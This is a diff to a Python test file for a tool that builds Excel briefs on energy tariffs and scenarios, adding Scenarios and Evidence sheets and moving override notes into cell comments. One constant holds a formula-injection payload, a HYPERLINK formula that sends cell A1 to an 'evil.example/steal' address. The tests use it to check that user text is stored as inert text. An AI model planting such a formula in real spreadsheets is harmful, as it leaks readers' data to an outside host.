@@ -12,7 +12,8 @@ from workbench.io.excel import KEY_NUMBERS, write_brief
 from workbench.io.excel_cells import CUT_MARK, EXCEL_TEXT_LIMIT, put
 from workbench.models.evaluate import evaluate
 
-SHEETS = ["Cover", "Key numbers", "What changed", "Assumptions", "Tariffs", "Grid", "Charts", "Sources"]
+SHEETS = ["Cover", "Key numbers", "Scenarios", "What changed", "Assumptions", "Large loads", "Tariffs", "Grid",
+          "Charts", "Evidence", "Sources"]
 HOSTILE = '=HYPERLINK("http://evil.example/steal?"&A1,"Click for the full data")'
 
 
@@ -83,7 +84,7 @@ def test_user_text_is_never_a_formula(brief):
                     assert cell.data_type == "s"
                     assert cell.quotePrefix or not cell.value.startswith(("=", "@", "+", "-"))
                     assert "\x07" not in cell.value and "\x1b" not in cell.value  # control characters removed
-    assert found >= 1  # the hostile note reached the Cover as inert text
+    assert found >= 1  # the hostile note reached the brief (the Scenarios sheet) as inert text
 
 
 def test_charts_are_native_and_reference_the_right_ranges(brief):
@@ -150,12 +151,14 @@ def test_assumptions_show_every_parameter_with_source_and_origin(brief, example_
     labels = [ws.cell(row=r, column=2).value for r in range(5, 5 + len(list(example_session.catalogue)))]
     assert labels == [p.label for p in example_session.catalogue]
     header = [c.value for c in ws[4]]
-    stress = header.index("Stress") + 1
+    assert header == ["Group", "Assumption", "Unit", *[r.name for r in results], "Source", "Basis", "Confidence"]
+    stress, gov = header.index("Stress") + 1, header.index("Government proposal") + 1
     row = 5 + labels.index("Exchange rate")
+    # Set in Stress: bold, with Stress's note as a comment; the data set's default elsewhere: plain.
     assert ws.cell(row=row, column=stress).value == 330.0 and ws.cell(row=row, column=stress).font.b
-    assert ws.cell(row=row, column=stress + 1).value == "Stress"
-    gov = header.index("Government proposal") + 1
-    assert ws.cell(row=row, column=gov + 1).value == "default"
+    assert ws.cell(row=row, column=stress).comment.text.startswith("Set in scenario 'Stress'")
+    assert ws.cell(row=row, column=gov).value == 280.0
+    assert not ws.cell(row=row, column=gov).font.b and ws.cell(row=row, column=gov).comment is None
     assert "Pakbanker" in ws.cell(row=row, column=header.index("Source") + 1).value
 
 
@@ -280,21 +283,39 @@ def test_issue16_part5_assumptions_show_basis_confidence_quote_address_and_overr
     wb, _, _ = brief
     ws = wb["Assumptions"]
     header = [c.value for c in ws[4]]
-    col = {name: header.index(name) + 1 for name in ("Basis", "Confidence", "Quote", "Address", "Stress")}
+    col = {name: header.index(name) + 1 for name in ("Basis", "Confidence", "Stress")}
     labels = [ws.cell(row=r, column=2).value for r in range(5, ws.max_row + 1)]
     growth = 5 + labels.index("Demand growth")
     assert ws.cell(growth, col["Basis"]).value == "sourced"
     assert ws.cell(growth, col["Confidence"]).value == "medium"
-    assert "2.8%" in ws.cell(growth, col["Quote"]).value
-    rlng = 5 + labels.index("RLNG price")
-    assert ws.cell(rlng, col["Address"]).value.startswith("https://www.brecorder.com/")
-    # An override names its scenario and carries the scenario's note.
-    set_by = ws.cell(row=5 + labels.index("Exchange rate"), column=col["Stress"] + 1)
-    assert set_by.value == "Stress"
+    # The source's own words and address are on the Evidence sheet, one row per assumption.
+    evidence = wb["Evidence"]
+    assert [c.value for c in evidence[4]] == ["Assumption", "Unit", "Default", "Year", "Worked out as", "Quote",
+                                              "Address"]
+    rows = {evidence.cell(r, 1).value: r for r in range(5, evidence.max_row + 1)}
+    assert list(rows) == [p.label for p in example_session.catalogue]
+    assert "2.8%" in evidence.cell(rows["Demand growth"], 6).value
+    assert evidence.cell(rows["RLNG price"], 7).value.startswith("https://www.brecorder.com/")
+    # An override names its scenario and carries the scenario's note, as a comment on the value.
+    value = ws.cell(row=5 + labels.index("Exchange rate"), column=col["Stress"])
     note = example_session.project.scenario("Stress").notes
-    assert set_by.comment.text.startswith("Set in scenario 'Stress': " + " ".join(note.split())[:40])
-    hostile = ws.cell(row=5 + labels.index("Exchange rate"), column=header.index("Hostile note") + 2)
+    assert value.comment.text.startswith("Set in scenario 'Stress': " + " ".join(note.split())[:40])
+    hostile = ws.cell(row=5 + labels.index("Exchange rate"), column=header.index("Hostile note") + 1)
     assert "\x07" not in hostile.comment.text and hostile.comment.text.startswith("Set in scenario 'Hostile note'")
+
+
+def test_evidence_shows_how_a_derived_default_was_worked_out_with_the_values_it_uses(brief, example_session):
+    """A formula names other data-set values by key; the reader sees each replaced by its value and
+    unit, so the arithmetic can be checked with a pocket calculator."""
+    wb, _, _ = brief
+    ws = wb["Evidence"]
+    rows = {ws.cell(r, 1).value: r for r in range(5, ws.max_row + 1)}
+    p = next(q for q in example_session.catalogue if q.label == "Imported coal price (delivered)")
+    text = ws.cell(rows[p.label], 5).value
+    assert p.formula.startswith("15.16 / {finance.pkr_per_usd}")
+    fx = example_session.dataset.datum("finance.pkr_per_usd")
+    assert text.startswith(f"15.16 / [{fx.value:.0f} {fx.unit}] / (")
+    assert "{" not in text and "}" not in text
 
 
 def test_issue16_part5_sources_sheet_gives_locators_and_counts_by_basis(brief, example_session):
